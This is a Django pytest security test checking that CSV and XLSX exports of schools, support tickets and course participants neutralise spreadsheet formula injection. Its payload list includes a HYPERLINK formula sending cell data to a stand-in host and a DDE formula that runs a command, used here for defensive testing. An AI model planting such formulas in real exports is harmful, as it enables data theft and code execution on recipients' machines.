"""CSV/XLSX exports neutralise formula injection.

A value typed by a user (a school name, a device model, a ticket subject, a
teacher's name) that starts with = + - @ or a tab or carriage return would run as
a formula when an agent opens the export in Excel or LibreOffice (data theft via
HYPERLINK/WEBSERVICE, DDE). Every cell carrying such a value must be made inert,
usually with a leading apostrophe.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from support.tickets import open_ticket
from tests.factories import SchoolFactory, UserFactory
from tests.security import factories as f

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1;"FML0")',
    "+FML1+1",
    "-FML2+1",
    "@SUM(FML3)",
    "\t=FML4",
    "\r=FML5",
    '=cmd|" /C calc"!FML6',
]
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
MARKER = re.compile(r"FML\d")


def _content(response) -> bytes:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    header = text.splitlines()[0]
    delimiter = ";" if header.count(";") > header.count(",") else ","
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in reader for cell in row]


def _xlsx_cells(data: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(data))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cells.append(f"FORMULA {cell.value}")
                elif isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


def assert_neutralised(cells: list[str], where: str) -> None:
    carrying = [c for c in cells if MARKER.search(c)]
    found = sorted({MARKER.search(c).group(0) for c in carrying})
    assert len(found) == len(FORMULAS), f"{where}: payloads missing, found {found}"
    live = [c for c in carrying if c.startswith((*DANGEROUS_STARTS, "FORMULA"))]
    assert not live, f"{where}: cells a spreadsheet runs as formulas: {live}"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_school_export_in_the_cms(client, admin, fmt):
    for n, formula in enumerate(FORMULAS):
        SchoolFactory(name=formula, school_number=f"{300000 + n}")
    client.force_login(admin)
    data = _content(client.get(f"/cms/schools/?export={fmt}"))
    cells = _csv_cells(data) if fmt == "csv" else _xlsx_cells(data)
    assert_neutralised(cells, f"/cms/schools/?export={fmt}")


def test_ticket_exports_of_the_queue_and_reports(client, agent, teacher, school):
    for formula in FORMULAS:
        open_ticket(
            school=school,
            reporter=teacher,
            category="other",
            subject=formula,
            body=formula,
        )
    client.force_login(agent)
    for name in ("support:queue_export", "support:reports_csv"):
        data = _content(client.get(reverse(name)))
        if name == "support:reports_csv" and not MARKER.search(data.decode()):
            continue  # the report counts tickets; it carries no typed text
        assert_neutralised(_csv_cells(data), name)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_participant_export_of_a_session(client, trainer, school, fmt):
    course = f.make_course(trainers=[trainer])
    session = f.make_session(course, trainer=trainer, capacity=20)
    for formula in FORMULAS:
        f.make_registration(session, UserFactory(full_name=formula, school=school))
    client.force_login(trainer)
    url = reverse("courses:session_export", args=[session.pk, fmt])
    data = _content(client.get(url))
    cells = _csv_cells(data) if fmt == "csv" else _xlsx_cells(data)
    assert_neutralised(cells, url)
